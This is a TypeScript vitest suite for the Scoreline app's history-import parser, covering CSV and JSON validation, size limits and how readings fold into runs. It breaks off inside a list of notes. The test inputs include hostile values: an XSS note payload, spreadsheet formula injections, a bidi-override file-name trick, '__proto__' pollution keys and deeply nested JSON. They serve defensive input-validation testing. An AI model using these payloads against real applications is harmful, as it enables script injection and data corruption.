import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { toCsv, toJson } from '../../src/lib/history/export-formats';
import { MAX_IMPORT_BYTES, MAX_IMPORT_ROWS, parseImportFile, type ParsedImport } from '../../src/lib/history/import-parser';
import type { Note } from '../../src/lib/history/note';
import { foldReadings, joinRuns, type Run } from '../../src/lib/history/run';
import { v1Csv, v1Json, type V1Reading } from '../fixtures/v1-history';
import { v2Csv, v2Json } from '../fixtures/v2-history';
import { historyArbitraries } from '../fixtures/history-arbitraries';
import { EARLIEST_READING_TIME, FUTURE_TOLERANCE_MS, MAX_NOTE_LENGTH, MAX_SCORE, checkNote } from '../../src/lib/history/reading-rules';
import type { Ok, Result } from '../../src/lib/util/result';

const NOW = Date.UTC(2026, 10, 28, 12);
const DAY = 24 * 60 * 60 * 1000;
const TENANT = '6f1c2a3b-4d5e-4f60-8a7b-9c0d1e2f3a4b';
const OTHER = 'aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee';
const HEADER = 'time,score,tenant,note';
const HEADER_V2 = 'first_seen,last_seen,score,tenant,note';
const T1 = '2026-11-27T09:15:00.000Z';
const T2 = '2026-11-28T09:15:00.000Z';

const parse = (name: string, text: string, defaultTenantId?: string) => parseImportFile(name, text, { now: NOW, defaultTenantId });
const csvFile = (...rows: string[]) => [HEADER, ...rows].join('\r\n') + '\r\n';
const csvV2File = (...rows: string[]) => [HEADER_V2, ...rows].join('\r\n') + '\r\n';
const jsonFile = (readings: unknown[], envelope: Record<string, unknown> = {}) =>
  JSON.stringify({ app: 'Scoreline', format: 'scoreline.history', version: 1, exportedAt: T2, tenants: [], readings, ...envelope });
const jsonV2File = (runs: unknown[], notes: unknown[] = [], envelope: Record<string, unknown> = {}) =>
  JSON.stringify({ app: 'Scoreline', format: 'scoreline.history', version: 2, exportedAt: T2, tenants: [], runs, notes, ...envelope });

function parsed(result: Result<ParsedImport, string>): ParsedImport {
  if (!result.ok) throw new Error(`refused: ${result.error}`);
  return result.value;
}

function problemOf(result: Result<ParsedImport, string>): string {
  if (result.ok) throw new Error('expected the file to be refused');
  return result.error;
}

/** The one invalid row of a version 1 CSV with that single data row. */
function csvRowReason(row: string, defaultTenantId?: string): string | undefined {
  const result = parsed(parse('h.csv', csvFile(row), defaultTenantId));
  expect(result.invalid.length + (result.readingCount ?? 0)).toBe(1);
  return result.invalid[0]?.reason;
}

/** The one invalid row of a version 2 CSV with that single data row. */
function csvV2RowReason(row: string): string | undefined {
  const result = parsed(parse('h.csv', csvV2File(row)));
  expect(result.invalid.length + result.runs.length + result.notes.length).toBeGreaterThanOrEqual(1);
  return result.invalid[0]?.reason;
}

/** The note texts, oldest first. */
const textsOf = (result: ParsedImport) => result.notes.slice().sort(byNoteKey).map((n) => n.text);
const byNoteKey = (a: Note, b: Note) => a.time - b.time || a.tenantId.localeCompare(b.tenantId);
const byRunKey = (a: Run, b: Run) => a.firstSeen - b.firstSeen || a.tenantId.localeCompare(b.tenantId) || a.score - b.score;

describe('parseImportFile refuses files that cannot be ours', () => {
  it.each(['history.txt', 'history', 'history.csv.exe', 'history.jsonl'])('refuses the file name %j', (name) => {
    expect(problemOf(parse(name, csvFile()))).toBe('Only .csv and .json files exported from Scoreline can be imported.');
  });

  it('accepts .csv and .json in any letter case', () => {
    expect(parse('History.CSV', csvFile()).ok).toBe(true);
    expect(parse('History.Json', jsonFile([])).ok).toBe(true);
  });

  it.each(['', '   ', '\uFEFF', '\uFEFF\r\n\r\n\t'])('refuses an empty file %j', (text) => {
    expect(problemOf(parse('h.csv', text))).toBe('The file is empty.');
  });

  it('refuses a file larger than MAX_IMPORT_BYTES before reading it', () => {
    expect(problemOf(parse('h.csv', HEADER + '\n' + 'x'.repeat(MAX_IMPORT_BYTES)))).toMatch(/larger than 20 MB/);
  });

  it.each([
    ['cut off', jsonFile([]).slice(0, 40)],
    ['not JSON at all', '{ this is not json'],
    ['followed by junk', jsonFile([]) + 'x'],
  ])('refuses JSON that does not parse (%s)', (_, text) => {
    expect(problemOf(parse('h.json', text))).toBe('The file is truncated or is not JSON.');
  });

  it.each([
    ['another app', jsonFile([], { app: 'Other' })],
    ['another format', jsonFile([], { format: 'scoreline.settings' })],
    ['no app', JSON.stringify({ readings: [] })],
    ['an array', '[1, 2, 3]'],
  ])('refuses JSON from %s', (_, text) => {
    expect(problemOf(parse('h.json', text))).toBe('The file is JSON, but not a history exported from Scoreline.');
  });

  it('refuses a file from a newer version of Scoreline', () => {
    expect(problemOf(parse('h.json', jsonV2File([], [], { version: 5 })))).toBe(
      'The file was made by a newer version of Scoreline. Reload Scoreline to update it, then import the file again.',
    );
  });

  it.each([0, '1', '2', null, 1.5, 1.5 - 1.5])('refuses the unknown version %j', (version) => {
    expect(problemOf(parse('h.json', jsonFile([], { version })))).toBe('The file has a format version that Scoreline does not know.');
  });

  it('refuses our JSON without a list of readings (version 1), runs or notes (version 2)', () => {
    expect(problemOf(parse('h.json', jsonFile([], { readings: {} })))).toBe('The file has no list of readings.');
    expect(problemOf(parse('h.json', jsonV2File([], [], { runs: undefined })))).toBe('The file has no list of runs.');
    expect(problemOf(parse('h.json', jsonV2File([], [], { notes: 'none' })))).toBe('The file has no list of notes.');
    // A version 2 file is not read by its version 1 list, nor the other way round.
    expect(problemOf(parse('h.json', jsonFile([], { version: 2 })))).toBe('The file has no list of runs.');
    expect(problemOf(parse('h.json', jsonV2File([], [], { version: 1 })))).toBe('The file has no list of readings.');
  });

  it.each([
    ['no header', `${T1},300,${TENANT},\r\n`],
    ['another header', 'date,value\r\n'],
    ['columns in another order', 'score,time,tenant,note\r\n'],
    ['an unknown extra column', 'time,score,tenant,note,tenant_label,colour\r\n'],
    ['too few columns', 'time,score\r\n'],
    ['too few version 2 columns', 'first_seen,last_seen,score\r\n'],
    ['the two versions mixed', 'first_seen,score,tenant,note\r\n'],
  ])('refuses a CSV with %s', (_, text) => {
    expect(problemOf(parse('h.csv', text))).toBe(
      'The file is not a CSV exported from Scoreline: its first line must be first_seen,last_seen,score,tenant,series,group_name,note (or, from an older version, first_seen,last_seen,score,tenant,note or time,score,tenant,note).',
    );
  });

  it('accepts the header of either version in any letter case, with or without the note and label columns', () => {
    for (const header of ['TIME,Score,Tenant,NOTE', 'time,score,tenant', ' time , score , tenant ', 'time,score,tenant,note,tenant_label', '"time","score","tenant"']) {
      const result = parsed(parse('h.csv', `${header}\r\n${T1},300,${TENANT}\r\n`));
      expect([result.version, result.readingCount, result.runs.length]).toEqual([1, 1, 1]);
    }
    for (const header of ['FIRST_SEEN,Last_Seen,score,tenant', 'first_seen,last_seen,score,tenant,note', ' first_seen ,last_seen,score,tenant,note,tenant_label']) {
      const result = parsed(parse('h.csv', `${header}\r\n${T1},${T2},300,${TENANT}\r\n`));
      expect([result.version, result.readingCount, result.runs.length]).toEqual([2, undefined, 1]);
    }
  });

  it(`refuses more than ${MAX_IMPORT_ROWS} rows`, () => {
    expect(problemOf(parse('h.csv', HEADER + '\n' + 'x\n'.repeat(MAX_IMPORT_ROWS + 1)))).toMatch(/more than 200,000 readings/);
    expect(problemOf(parse('h.csv', HEADER_V2 + '\n' + 'x\n'.repeat(MAX_IMPORT_ROWS + 1)))).toMatch(/more than 200,000 rows/);
    expect(problemOf(parse('h.json', jsonFile(new Array(MAX_IMPORT_ROWS + 1).fill(null))))).toMatch(/more than 200,000 readings/);
    const half = new Array(MAX_IMPORT_ROWS / 2).fill(null);
    expect(problemOf(parse('h.json', jsonV2File(half, [...half, null])))).toMatch(/more than 200,000 runs and notes/);
    expect(parse('h.csv', HEADER + '\n' + 'x\n'.repeat(MAX_IMPORT_ROWS)).ok).toBe(true);
    expect(parse('h.json', jsonV2File(half, half)).ok).toBe(true);
    // A large file on a busy machine: room enough, never a measure of speed.
  }, 30_000);
});

describe('parseImportFile skips invalid rows of a version 1 CSV and says why', () => {
  it.each([
    ['yesterday', 'the time "yesterday" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['2026-11-27 09:15:00Z', 'the time "2026-11-27 09:15:00Z" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['2026-11-27T09:15:00', 'the time "2026-11-27T09:15:00" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['2026-02-30T00:00:00Z', 'the time "2026-02-30T00:00:00Z" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['1764320100000', 'the time "1764320100000" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    ['', 'has no time'],
    ['2014-12-31T23:59:59.999Z', 'the time is before 2015, when Secure Score did not exist yet'],
    [new Date(NOW + DAY + 1).toISOString(), 'the time is in the future'],
    ['9999-12-31T23:59:59Z', 'the time is in the future'],
  ])('time %j: %s', (time, reason) => {
    expect(csvRowReason(`${time},300,${TENANT},`)).toBe(reason);
  });

  it('accepts times at the edges: 1 January 2015 and one day ahead of now, and any zone', () => {
    expect(csvRowReason(`2015-01-01T00:00:00Z,300,${TENANT},`)).toBeUndefined();
    expect(csvRowReason(`${new Date(NOW + DAY).toISOString()},300,${TENANT},`)).toBeUndefined();
    const result = parsed(parse('h.csv', csvFile(`2026-11-27T10:15:00.1234567+01:00,300,${TENANT},`)));
    expect(result.runs[0]?.firstSeen).toBe(Date.parse('2026-11-27T09:15:00.123Z'));
  });

  it.each([
    ['1e400', 'the score "1e400" is not a plain number of points, such as 301.5'],
    ['1e2', 'the score "1e2" is not a plain number of points, such as 301.5'],
    ['Infinity', 'the score "Infinity" is not a plain number of points, such as 301.5'],
    ['NaN', 'the score "NaN" is not a plain number of points, such as 301.5'],
    ['0x1F', 'the score "0x1F" is not a plain number of points, such as 301.5'],
    ['-5', 'the score "-5" is not a plain number of points, such as 301.5'],
    ['+5', 'the score "+5" is not a plain number of points, such as 301.5'],
    ['.5', 'the score ".5" is not a plain number of points, such as 301.5'],
    ['5.', 'the score "5." is not a plain number of points, such as 301.5'],
    ['=1+1', 'the score "=1+1" is not a plain number of points, such as 301.5'],
    ['', 'has no score'],
    ['100000.01', 'the score is more than 100000 points'],
  ])('score %j: %s', (score, reason) => {
    expect(csvRowReason(`${T1},${score},${TENANT},`)).toBe(reason);
  });

  it('refuses a score of 400 digits as too large rather than reading it as Infinity', () => {
    expect(csvRowReason(`${T1},${'9'.repeat(400)},${TENANT},`)).toBe('the score is more than 100000 points');
  });

  it('reads plain decimal scores exactly, with any number of decimals, and trims spaces around cells', () => {
    const result = parsed(parse('h.csv', csvFile(`${T1},301.123456789,${TENANT},`, ` ${T2} , 0 , ${TENANT} ,`)));
    expect(result.runs.map((r) => r.score)).toEqual([301.123456789, 0]);
    expect(csvRowReason(`${T1},100000,${TENANT},`)).toBeUndefined();
  });

  it.each([
    ['contoso.onmicrosoft.com', 'the tenant "contoso.onmicrosoft.com" is not a tenant ID (a GUID)'],
    [`{${TENANT}}`, `the tenant "{${TENANT}}" is not a tenant ID (a GUID)`],
    ['', 'has no tenant'],
  ])('tenant %j: %s', (tenant, reason) => {
    expect(csvRowReason(`${T1},300,${tenant},`)).toBe(reason);
  });

  it('uses the default tenant only for an empty tenant cell, and keeps tenant IDs in lower case', () => {
    const result = parsed(parse('h.csv', csvFile(`${T1},300,,`, `${T2},301,${OTHER.toUpperCase()},`, `${T2},302`), TENANT));
    expect(result.runs.slice().sort(byRunKey).map((r) => [r.tenantId, r.score])).toEqual([
      [TENANT, 300],
      [TENANT, 302],
      [OTHER, 301],
    ]);
    expect(result.tenantIds).toEqual([TENANT, OTHER]);
    expect(csvRowReason(`${T1},300,,`, 'not-a-guid')).toBe('the tenant "not-a-guid" is not a tenant ID (a GUID)');
  });

  it.each([
    ['a\u0000b', 'the note contains control characters'],
    ['a\tb', 'the note contains control characters'],
    ['a\u001bb', 'the note contains control characters'],
    ['a\u0085b', 'the note contains control characters'],
    ['evil\u202etxt.exe', 'the note contains characters that change the direction of text'],
    ['a\ud800b', 'the note contains broken Unicode text'],
  ])('note %j: %s', (note, reason) => {
    expect(csvRowReason(`${T1},300,${TENANT},"${note}"`)).toBe(reason);
  });

  it('refuses a note longer than 280 characters rather than cutting it short', () => {
    expect(csvRowReason(`${T1},300,${TENANT},${'x'.repeat(MAX_NOTE_LENGTH + 1)}`)).toBe('the note is longer than 280 characters');
  });

  it('trims notes, drops empty ones, and keeps notes of exactly 280 characters', () => {
    const result = parsed(
      parse('h.csv', csvFile(`${T1},300,${TENANT},  padded  `, `${T2},300,${TENANT},"   "`, `2026-11-26T00:00:00Z,300,${TENANT},${'é'.repeat(280)}`)),
    );
    expect(textsOf(result)).toEqual(['é'.repeat(280), 'padded']);
    expect(result.readingCount).toBe(3);
  });

  it('skips a row whose note holds markup, and keeps text that only looks like it', () => {
    const csv = v1Csv([
      { tenantId: TENANT, time: Date.parse(T1), score: 1, note: '<img src=x onerror=alert(1)><script>alert("x")</script>' },
      { tenantId: TENANT, time: Date.parse(T2), score: 2, note: 'score < 400 again <3 & &amp; &lt;' },
    ]);
    const result = parsed(parse('h.csv', csv));
    expect(result.invalid).toEqual([{ kind: 'line', line: 2, reason: expect.stringContaining('markup') }]);
    expect(textsOf(result)).toEqual(['score < 400 again <3 & &amp; &lt;']);
  });

  it('removes the formula guard only where toCsv would have added it', () => {
    const result = parsed(
      parse(
        'h.csv',
        csvFile(`${T1},1,${TENANT},'=SUM(A1)`, `${T2},1,${TENANT},'plain`, `2026-11-26T00:00:00Z,1,${TENANT},''@x`, `2026-11-25T00:00:00Z,1,'${TENANT},`),
      ),
    );
    expect(textsOf(result)).toEqual(["'@x", '=SUM(A1)', "'plain"]);
    expect(result.invalid).toEqual([{ kind: 'line', line: 5, reason: `the tenant "'${TENANT}" is not a tenant ID (a GUID)` }]);
  });

  it('keeps the first of rows with the same tenant and time, reporting the others', () => {
    const result = parsed(parse('h.csv', csvFile(`${T1},300,${TENANT},first`, `${T1},301,${OTHER},other tenant`, `${T1},999,${TENANT},second`, `2026-11-27T10:15:00+01:00,1,${TENANT},`)));
    expect(textsOf(result)).toEqual(['first', 'other tenant']);
    expect(result.runs.map((r) => r.score).sort()).toEqual([300, 301]);
    expect(result.invalid).toEqual([
      { kind: 'line', line: 4, reason: 'duplicate of line 2' },
      { kind: 'line', line: 5, reason: 'duplicate of line 2' },
    ]);
  });

  it('reports a row with more cells than the header (an unquoted comma in a note)', () => {
    expect(csvRowReason(`${T1},300,${TENANT},patched, rebooted`)).toBe('has more cells than the header; a note with a comma must be in double quotes');
  });

  it('reports text after a closing quote, and keeps reading the next rows', () => {
    const result = parsed(parse('h.csv', csvFile(`${T1},300,${TENANT},"quoted"tail`, `${T2},301,${TENANT},ok`)));
    expect(result.invalid).toEqual([{ kind: 'line', line: 2, reason: 'a quoted cell has text after its closing quote' }]);
    expect(result.readingCount).toBe(1);
  });

  it('gives the line where each row starts, across notes that span lines, skipping blank rows', () => {
    const text = [HEADER, `${T1},300,${TENANT},"two\nlines"`, '', ',,,', `${T2},bad,${TENANT},`, `2026-11-26T00:00:00Z,1,${TENANT},"a\r\nb\rc"`, 'x'].join('\r\n');
    const result = parsed(parse('h.csv', text));
    expect(result.invalid).toEqual([
      { kind: 'line', line: 6, reason: 'the score "bad" is not a plain number of points, such as 301.5' },
      { kind: 'line', line: 10, reason: 'the time "x" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z' },
    ]);
    expect(textsOf(result)).toEqual(['a\nb\nc', 'two\nlines']);
  });

  it.each([
    ['CRLF', '\r\n'],
    ['LF', '\n'],
    ['CR', '\r'],
  ])('reads %s line ends, with or without a final line end and a byte order mark', (_, end) => {
    const rows = [HEADER, `${T1},300,${TENANT},a`, `${T2},301,${TENANT},"b, ""c"""`];
    for (const text of [rows.join(end), rows.join(end) + end, '\uFEFF' + rows.join(end)]) {
      const result = parsed(parse('h.csv', text));
      expect(textsOf(result)).toEqual(['a', 'b, "c"']);
      expect(result.invalid).toEqual([]);
    }
  });

  it('reports a row cut off inside a quoted note and keeps the rows before it', () => {
    const text = v1Csv([
      { tenantId: TENANT, time: Date.parse(T1), score: 300, note: 'kept' },
      { tenantId: TENANT, time: Date.parse(T2), score: 301, note: 'a note, cut off here' },
    ]);
    const result = parsed(parse('h.csv', text.slice(0, text.indexOf('cut off'))));
    expect(result.runs).toEqual([{ tenantId: TENANT, firstSeen: Date.parse(T1), lastSeen: Date.parse(T1), score: 300 }]);
    expect(result.notes).toEqual([{ tenantId: TENANT, time: Date.parse(T1), text: 'kept', edited: Date.parse(T1) }]);
    expect(result.invalid).toEqual([{ kind: 'line', line: 3, reason: 'the row is cut off: a quoted cell is never closed' }]);
  });

  it('keeps quoted values short and printable in reasons', () => {
    const reason = csvRowReason(`${'\u0007'.repeat(3)}${'9'.repeat(100)},300,${TENANT},`);
    expect(reason).toBe(`the time "\uFFFD\uFFFD\uFFFD${'9'.repeat(37)}…" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z`);
  });
});

describe('parseImportFile skips invalid readings of a version 1 JSON file and says why', () => {
  const good = { tenantId: TENANT, time: T1, score: 300 };

  it.each([
    ['null', null, 'is not an object with tenantId, time and score'],
    ['an array', [good], 'is not an object with tenantId, time and score'],
    ['no time', { ...good, time: undefined }, 'has no time text'],
    ['a numeric time', { ...good, time: Date.parse(T1) }, 'has no time text'],
    ['a future time', { ...good, time: '2099-01-01T00:00:00Z' }, 'the time is in the future'],
    ['a text score', { ...good, score: '300' }, 'has no numeric score'],
    ['a negative score', { ...good, score: -1 }, 'the score is negative'],
    ['a huge score', { ...good, score: 1e300 }, 'the score is more than 100000 points'],
    ['no tenant', { ...good, tenantId: undefined }, 'has no tenantId text'],
    ['a bad tenant', { ...good, tenantId: 'contoso' }, 'the tenant "contoso" is not a tenant ID (a GUID)'],
    ['a numeric note', { ...good, note: 5 }, 'has a note that is not text'],
    ['a long note', { ...good, note: 'x'.repeat(281) }, 'the note is longer than 280 characters'],
  ])('a reading with %s', (_, entry, reason) => {
    const result = parsed(parse('h.json', jsonFile([good, entry].map((e, i) => (i === 0 ? { ...e, time: T2 } : e)))));
    expect(result.invalid).toEqual([{ kind: 'reading', line: 2, reason }]);
    expect(result.readingCount).toBe(1);
  });

  it('refuses 1e400 (JSON reads it as Infinity)', () => {
    const text = jsonFile([good]).replace('"score":300', '"score":1e400');
    expect(parsed(parse('h.json', text)).invalid).toEqual([{ kind: 'reading', line: 1, reason: 'the score is more than 100000 points' }]);
  });

  it('reports duplicates by their position in the readings list', () => {
    const result = parsed(parse('h.json', jsonFile([good, { ...good, time: T2 }, { ...good, score: 1, note: 'later' }])));
    expect(result.invalid).toEqual([{ kind: 'reading', line: 3, reason: 'duplicate of reading 1' }]);
  });

  it('reads only the document’s own keys and ignores unknown ones', () => {
    const text = `{"__proto__":{"app":"Scoreline"},"app":"Scoreline","format":"scoreline.history","version":1,"readings":[{"tenantId":"${TENANT}","time":"${T1}","score":-0,"colour":"red","__proto__":{"note":"x"}}]}`;
    const result = parsed(parse('h.json', text));
    expect(result.runs).toStrictEqual([{ tenantId: TENANT, firstSeen: Date.parse(T1), lastSeen: Date.parse(T1), score: 0 }]);
    expect(Object.is(result.runs[0]?.score, 0)).toBe(true);
    expect(result.notes).toEqual([]);
  });

  it('survives absurdly deep nesting', () => {
    expect(parse('h.json', '{"a":' + '['.repeat(100_000) + ']'.repeat(100_000) + '}').ok).toBe(false);
  });
});

describe('parseImportFile skips invalid rows of a version 2 CSV and says why', () => {
  const run = (from: string, to: string, score: number, tenantId = TENANT): Run => ({ tenantId, firstSeen: Date.parse(from), lastSeen: Date.parse(to), score });

  it('reads a run per line, its note at the run’s start, and a note line (no last_seen, no score) at its own time', () => {
    const result = parsed(parse('h.csv', csvV2File(`${T1},${T2},300,${TENANT},patched`, `2026-11-27T12:00:00Z,,,${TENANT},rebooted`)));
    expect(result).toMatchObject({ format: 'csv', version: 2, readingCount: undefined, invalid: [], tenantIds: [TENANT] });
    expect(result.runs).toEqual([run(T1, T2, 300)]);
    // A spreadsheet keeps no edit time: the earliest it can be, so a copy kept in the browser always wins.
    expect(result.notes).toEqual([
      { tenantId: TENANT, time: Date.parse(T1), text: 'patched', edited: Date.parse(T1) },
      { tenantId: TENANT, time: Date.parse('2026-11-27T12:00:00Z'), text: 'rebooted', edited: Date.parse('2026-11-27T12:00:00Z') },
    ]);
  });

  it.each([
    [`,${T2},300,${TENANT},`, 'has no first_seen time'],
    [`${T1},,300,${TENANT},`, 'has no last_seen time'],
    [`${T1},${T2},,${TENANT},`, 'has no score'],
    [`${T1},,,${TENANT},`, 'has no score'],
    [`${T1},,,${TENANT},"  "`, 'has no score'],
    [`${T2},${T1},300,${TENANT},`, 'the score was last seen before it was first seen'],
    [`${T1},yesterday,300,${TENANT},`, 'the time "yesterday" is not an ISO 8601 date and time with a zone, such as 2026-11-28T09:15:00Z'],
    [`${T1},2099-01-01T00:00:00Z,300,${TENANT},`, 'the time is in the future'],
    [`2014-12-31T00:00:00Z,${T2},300,${TENANT},`, 'the time is before 2015, when Secure Score did not exist yet'],
    [`${T1},${T2},1e2,${TENANT},`, 'the score "1e2" is not a plain number of points, such as 301.5'],
    [`${T1},${T2},=1+1,${TENANT},`, 'the score "=1+1" is not a plain number of points, such as 301.5'],
    [`${T1},${T2},300,contoso,`, 'the tenant "contoso" is not a tenant ID (a GUID)'],
    [`${T1},${T2},300,${TENANT},<b>x</b>`, 'the note contains markup (such as <b> or <script>), which Scoreline does not keep'],
    [`${T1},,,${TENANT},<b>x</b>`, 'the note contains markup (such as <b> or <script>), which Scoreline does not keep'],
    [`${T1},${T2},300,${TENANT},${'x'.repeat(MAX_NOTE_LENGTH + 1)}`, 'the note is longer than 280 characters'],
    [`${T1},${T2},300,${TENANT},patched, rebooted`, 'has more cells than the header; a note with a comma must be in double quotes'],
  ])('line %j: %s', (row, reason) => {
    expect(csvV2RowReason(row)).toBe(reason);
  });

  it('keeps a run of one moment, and a run with no note cell at all', () => {
    expect(parsed(parse('h.csv', csvV2File(`${T1},${T1},300,${TENANT}`))).runs).toEqual([run(T1, T1, 300)]);
  });

  it('removes the formula guard from tenant and note cells, and uses the default tenant for an empty cell', () => {
    const result = parsed(parse('h.csv', csvV2File(`${T1},${T2},1,,'=SUM(A1)`, `${T2},${T2},2,'${OTHER},`), TENANT));
    expect(result.runs).toEqual([run(T1, T2, 1)]);
    expect(textsOf(result)).toEqual(['=SUM(A1)']);
    expect(result.invalid).toEqual([{ kind: 'line', line: 3, reason: `the tenant "'${OTHER}" is not a tenant ID (a GUID)` }]);
  });

  it('joins runs of one score that overlap or repeat, and keeps runs of other scores apart', () => {
    const result = parsed(parse('h.csv', csvV2File(`${T1},2026-11-27T20:00:00Z,300,${TENANT}`, `2026-11-27T18:00:00Z,${T2},300,${TENANT}`, `${T1},${T1},300,${TENANT}`, `2026-11-27T19:00:00Z,2026-11-27T19:00:00Z,290,${TENANT}`)));
    expect(result.runs).toEqual([run(T1, T2, 300), run('2026-11-27T19:00:00Z', '2026-11-27T19:00:00Z', 290)]);
  });

  it('reports a second note at the same tenant and time, skipping its line', () => {
    const result = parsed(parse('h.csv', csvV2File(`${T1},${T2},300,${TENANT},first`, `${T1},,,${TENANT},second`, `${T1},,,${OTHER},other tenant`)));
    expect(textsOf(result)).toEqual(['first', 'other tenant']);
    expect(result.invalid).toEqual([{ kind: 'line', line: 3, reason: 'its note has the same tenant and time as the note of line 2' }]);
    expect(result.tenantIds).toEqual([TENANT, OTHER]);
  });
});

describe('parseImportFile skips invalid runs and notes of a version 2 JSON file and says why', () => {
  const goodRun = { tenantId: TENANT, firstSeen: T1, lastSeen: T2, score: 300 };
  const goodNote = { tenantId: TENANT, time: T1, text: 'patched', edited: T2 };

  it('reads runs and notes as written, the edit time included', () => {
    const result = parsed(parse('h.json', jsonV2File([goodRun], [goodNote])));
    expect(result).toMatchObject({ format: 'json', version: 2, readingCount: undefined, invalid: [], tenantIds: [TENANT] });
    expect(result.runs).toEqual([{ tenantId: TENANT, firstSeen: Date.parse(T1), lastSeen: Date.parse(T2), score: 300 }]);
    expect(result.notes).toEqual([{ tenantId: TENANT, time: Date.parse(T1), text: 'patched', edited: Date.parse(T2) }]);
  });

  it.each([
    ['null', null, 'is not an object with tenantId, firstSeen, lastSeen and score'],
    ['no firstSeen', { ...goodRun, firstSeen: undefined }, 'has no firstSeen text'],
    ['a numeric lastSeen', { ...goodRun, lastSeen: Date.parse(T2) }, 'has no lastSeen text'],
    ['a future lastSeen', { ...goodRun, lastSeen: '2099-01-01T00:00:00Z' }, 'the time is in the future'],
    ['lastSeen before firstSeen', { ...goodRun, firstSeen: T2, lastSeen: T1 }, 'the score was last seen before it was first seen'],
    ['a text score', { ...goodRun, score: '300' }, 'has no numeric score'],
    ['a negative score', { ...goodRun, score: -1 }, 'the score is negative'],
    ['a bad tenant', { ...goodRun, tenantId: 'contoso' }, 'the tenant "contoso" is not a tenant ID (a GUID)'],
  ])('a run with %s', (_, entry, reason) => {
    const result = parsed(parse('h.json', jsonV2File([goodRun, entry])));
    expect(result.invalid).toEqual([{ kind: 'run', line: 2, reason }]);
    expect(result.runs).toHaveLength(1);
  });

  it.each([
    ['an array', [goodNote], 'is not an object with tenantId, time, text and edited'],
    ['no time', { ...goodNote, time: undefined }, 'has no time text'],
    ['no tenant', { ...goodNote, tenantId: undefined }, 'has no tenantId text'],
    ['a numeric text', { ...goodNote, text: 5 }, 'has no text'],
    ['markup', { ...goodNote, text: '<script>x</script>' }, 'the note contains markup (such as <b> or <script>), which Scoreline does not keep'],
    ['a long text', { ...goodNote, text: 'x'.repeat(MAX_NOTE_LENGTH + 1) }, 'the note is longer than 280 characters'],
    ['no edit time', { ...goodNote, edited: undefined }, 'has no edited text'],
    ['an edit time in the future', { ...goodNote, edited: '2099-01-01T00:00:00Z' }, 'the time is in the future'],
  ])('a note with %s', (_, entry, reason) => {
    const result = parsed(parse('h.json', jsonV2File([], [{ ...goodNote, time: T2 }, entry])));
    expect(result.invalid).toEqual([{ kind: 'note', line: 2, reason }]);
    expect(result.notes).toHaveLength(1);
  });

  it('skips a note with empty text without calling it invalid, and reports a repeated note', () => {
    const result = parsed(parse('h.json', jsonV2File([], [{ ...goodNote, text: '  ' }, goodNote, { ...goodNote, text: 'again' }])));
    expect(textsOf(result)).toEqual(['patched']);
    expect(result.invalid).toEqual([{ kind: 'note', line: 3, reason: 'duplicate of note 2' }]);
  });

  it('reads only the document’s own keys and ignores unknown ones', () => {
    const text = `{"app":"Scoreline","format":"scoreline.history","version":2,"runs":[{"tenantId":"${TENANT}","firstSeen":"${T1}","lastSeen":"${T1}","score":-0,"colour":"red","__proto__":{"x":1}}],"notes":[{"__proto__":{"text":"inherited"},"tenantId":"${TENANT}","time":"${T1}","edited":"${T1}"}]}`;
    const result = parsed(parse('h.json', text));
    expect(result.runs).toStrictEqual([{ tenantId: TENANT, firstSeen: Date.parse(T1), lastSeen: Date.parse(T1), score: 0 }]);
    expect(result.invalid).toEqual([{ kind: 'note', line: 1, reason: 'has no text' }]);
  });
});

describe('a version 1 file folds into runs on import', () => {
  const HOUR = 3_600_000;
  const at = (hours: number) => new Date(Date.parse('2026-11-20T00:00:00Z') + hours * HOUR).toISOString();
  // Frozen: a file as version 1 wrote it, five hourly readings, a note on the third.
  const V1_CSV = [
    'time,score,tenant,note,tenant_label',
    `${at(0)},300,${TENANT},,contoso.example`,
    `${at(1)},300,${TENANT},,contoso.example`,
    `${at(2)},300,${TENANT},"patched, rebooted",contoso.example`,
    `${at(3)},310,${TENANT},,contoso.example`,
    `${at(4)},310,${TENANT},,contoso.example`,
  ].join('\r\n');
  const V1_JSON = `{
  "app": "Scoreline",
  "format": "scoreline.history",
  "version": 1,
  "exportedAt": "${at(5)}",
  "tenants": [{ "tenantId": "${TENANT}", "label": "contoso.example" }],
  "readings": [
    { "tenantId": "${TENANT}", "time": "${at(0)}", "score": 300 },
    { "tenantId": "${TENANT}", "time": "${at(1)}", "score": 300 },
    { "tenantId": "${TENANT}", "time": "${at(2)}", "score": 300, "note": "patched, rebooted" },
    { "tenantId": "${TENANT}", "time": "${at(3)}", "score": 310 },
    { "tenantId": "${TENANT}", "time": "${at(4)}", "score": 310 }
  ]
}`;

  it.each([
    ['CSV', 'old.csv', V1_CSV],
    ['JSON', 'old.json', V1_JSON],
  ])('%s: 300, 300, 300, 310, 310 become two runs, and the note keeps its reading’s time', (_, name, text) => {
    const result = parsed(parse(name, text));
    expect(result).toMatchObject({ version: 1, readingCount: 5, invalid: [], tenantIds: [TENANT] });
    expect(result.runs).toEqual([
      { tenantId: TENANT, firstSeen: Date.parse(at(0)), lastSeen: Date.parse(at(2)), score: 300 },
      { tenantId: TENANT, firstSeen: Date.parse(at(3)), lastSeen: Date.parse(at(4)), score: 310 },
    ]);
    // Version 1 kept no edit time: the reading's time stands in for it.
    expect(result.notes).toEqual([{ tenantId: TENANT, time: Date.parse(at(2)), text: 'patched, rebooted', edited: Date.parse(at(2)) }]);
  });

  it('does not fold across a gap of more than 36 hours, nor across tenants', () => {
    const readings: V1Reading[] = [
      { tenantId: TENANT, time: Date.parse(at(0)), score: 300 },
      { tenantId: OTHER, time: Date.parse(at(1)), score: 300 },
      { tenantId: TENANT, time: Date.parse(at(37)), score: 300 },
    ];
    const result = parsed(parse('h.csv', v1Csv(readings)));
    expect(result.runs.map((r) => [r.tenantId, r.firstSeen, r.lastSeen])).toEqual(readings.map((r) => [r.tenantId, r.time, r.time]));
    expect(result.tenantIds).toEqual([TENANT, OTHER]);
  });
});

const NOTES_THAT_MUST_SURVIVE = [
  'patched, rebooted, rescanned',
  'the "critical" ones',
  'first line\nsecond line',
